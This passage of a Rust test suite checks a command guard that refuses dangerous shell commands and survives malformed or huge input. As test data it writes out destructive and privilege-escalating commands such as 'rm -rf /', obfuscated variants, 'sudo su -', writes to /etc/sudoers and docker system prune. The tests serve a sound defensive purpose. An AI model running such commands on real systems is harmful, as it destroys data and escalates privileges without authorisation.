        assert_eq!(refusal("echo ok && r''m  -r\\f /").segment, "rm -rf /");
        assert_eq!(refusal("nohup /sbin/reboot").segment, "/sbin/reboot");
        assert_eq!(refusal("sudo su -").segment, "sudo su -");
        assert_eq!(refusal("echo x >> /etc/sudoers").segment, "echo x >> /etc/sudoers");
    }

    #[test]
    fn forbidden_verbs_are_enforced_case_and_space_insensitively() {
        let guard = CommandGuard::new(&[
            "  RM   -rf ".to_string(),
            "docker\tsystem prune".to_string(),
            "   ".to_string(),
        ]);
        for command in [
            "rm -rf /tmp/cache",
            "RM   -RF /tmp/cache",
            "rm\t-rf /tmp/cache",
            "sudo r''m -rf /tmp/cache",
            "sh -c 'rm -rf /tmp/cache'",
            "Docker  System\tPrune -f",
            "echo ok && docker system prune -af",
        ] {
            match guard.check(command) {
                Ok(()) => panic!("`{command}` was allowed despite a forbidden verb"),
                Err(refusal) => assert_eq!(refusal.rule, FORBIDDEN_VERB, "`{command}`: {refusal}"),
            }
        }
        assert_eq!(guard.check("docker ps"), Ok(()));
        assert_eq!(guard.check("rm -f /tmp/cache"), Ok(()));
        assert_eq!(CommandGuard::new(&[]).check("rm -rf /tmp/cache"), Ok(()));
    }

    #[test]
    fn hostile_input_never_panics() {
        let guard = CommandGuard::default();
        let nasty = [
            "echo \"unterminated",
            "echo 'unterminated",
            "echo $(unterminated",
            "echo `unterminated",
            "echo ${unterminated",
            "echo $'\\x",
            "echo \\",
            "cat <<EOF",
            "cat <<",
            "echo >",
            "| | ;; && ||",
            ")))(((",
            "$(",
            "${",
            "${#}",
            "${!}",
            "$'\\u{110000}\\U7fffffff\\c'",
            "rm -rf \u{1F4A3} /\u{0301}",
            "ℝ𝕞 -rf /tmp/\u{200b}x",
            "\u{0}\u{1}\u{7f}",
            "find -exec",
            "xargs -I",
            "sudo -u",
            "env -S",
            "kill -s",
            "chmod",
            "dd of=",
            "{,}{,}{,}{,}{,}{,}{,}{,}{,}{,}",
            "rm -rf {a,{b,{c,{d,{e,{f,{g,{h,{i,j}}}}}}}}}",
        ];
        for command in nasty {
            let _ = guard.check(command);
        }
    }

    #[test]
    fn deep_nesting_is_too_complex() {
        let guard = CommandGuard::default();
        let nested_subs = format!("echo {}hi{}", "$(echo ".repeat(20), ")".repeat(20));
        assert_eq!(refusal_of(&guard, &nested_subs), TOO_COMPLEX);
        let unbalanced = "$(".repeat(5000);
        assert_eq!(refusal_of(&guard, &unbalanced), TOO_COMPLEX);
        let wrappers = format!("{}ls", "sudo ".repeat(40));
        assert_eq!(refusal_of(&guard, &wrappers), TOO_COMPLEX);
        let mut shells = "ls".to_string();
        for _ in 0..12 {
            shells = format!("sh -c {}", shell_quote(&shells));
        }
        assert_eq!(refusal_of(&guard, &shells), TOO_COMPLEX);
        let finds = format!("{}ls{}", "find / -exec ".repeat(12), " ;".repeat(12));
        assert!(guard.check(&finds).is_err());
    }

    #[test]
    fn long_input_is_handled() {
        let guard = CommandGuard::default();
        let huge = "a".repeat(100 * 1024);
        assert_eq!(refusal_of(&guard, &huge), TOO_COMPLEX);
        let many = "echo ok; ".repeat(6000);
        assert_eq!(guard.check(&many), Ok(()));
        let hidden = format!("{}rm -rf /", "echo ok; ".repeat(6000));
        assert_eq!(refusal_of(&guard, &hidden), RECURSIVE_DELETE);
        // Shapes that were once quadratic: they must stay fast.
        let pipeline = format!("{}true", "echo x | sh | ".repeat(4000));
        assert_eq!(guard.check(&pipeline), Ok(()));
        let braces = format!("rm -rf {}", "{a,".repeat(15000));
        assert_eq!(guard.check(&braces), Ok(()));
        let feeds = format!("{}rm -rf", "echo / | xargs ".repeat(3500));
        assert_eq!(refusal_of(&guard, &feeds), RECURSIVE_DELETE);
        let long_word = format!("echo {}", "x".repeat(60 * 1024));
        assert_eq!(guard.check(&long_word), Ok(()));
    }

    #[test]
    fn random_input_never_panics() {
        const ALPHABET: &[&str] = &[
            "rm",
            " ",
            "-rf",
            "/",
            "'",
            "\"",
            "\\",
            "$(",
            ")",
            "`",
            "${",
            "}",
            "{",
            ";",
            "&",
            "|",
            "\n",
            "\t",
            "<(",
            ">",
            "<<",
            "EOF",
            "#",
            "$",
            "~",
            "*",
            "sh -c ",
            "sudo ",
            "=",
            "é",
            "\u{1F600}",
            "(){",
            ":",
            "find / -exec ",
            "xargs ",
            "$'\\x",
        ];
        let guard = CommandGuard::default();
        let mut state: u64 = 0x2545_f491_4f6c_dd1d;
        for _ in 0..3000 {
            let mut command = String::new();
            let length = next_random(&mut state) % 40;
            for _ in 0..length {
                let index = usize::try_from(next_random(&mut state)).unwrap_or(0) % ALPHABET.len();
                command.push_str(ALPHABET[index]);
            }
            let _ = guard.check(&command);
        }
    }

    #[test]
    fn display_names_reason_and_rule() {
        let refusal =
            Refusal { rule: "fork_bomb", reason: "found a fork bomb".into(), segment: ":".into() };
        assert_eq!(refusal.to_string(), "found a fork bomb (rule fork_bomb)");
        let real = refusal_for_display();
        assert!(real.to_string().ends_with("(rule recursive_delete)"), "{real}");
        assert!(real.to_string().contains('/'), "{real}");
    }

    fn refusal_for_display() -> Refusal {
        refusal("rm -rf /")
    }

    fn refusal_of(guard: &CommandGuard, command: &str) -> &'static str {
        match guard.check(command) {
            Ok(()) => "allowed",
            Err(refusal) => refusal.rule,
        }
    }

    fn shell_quote(text: &str) -> String {
        format!("'{}'", text.replace('\'', "'\\''"))
    }

    /// xorshift64: deterministic pseudo-random input without a dependency.
    fn next_random(state: &mut u64) -> u64 {
        *state ^= *state << 13;
        *state ^= *state >> 7;
        *state ^= *state << 17;
        *state
    }
}
